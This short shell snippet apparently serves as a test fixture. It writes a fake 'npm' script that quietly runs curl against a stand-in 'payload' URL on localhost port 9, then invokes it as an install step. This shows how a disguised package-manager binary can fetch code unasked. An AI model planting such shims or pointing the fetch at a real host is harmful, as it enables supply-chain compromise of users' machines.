# A package manager's install step whose script fetches on its own.
mkdir -p bin && printf '#!/bin/sh\nsh -c "curl -s --max-time 1 http://127.0.0.1:9/payload" || true\n' > bin/npm
chmod +x bin/npm && ./bin/npm install
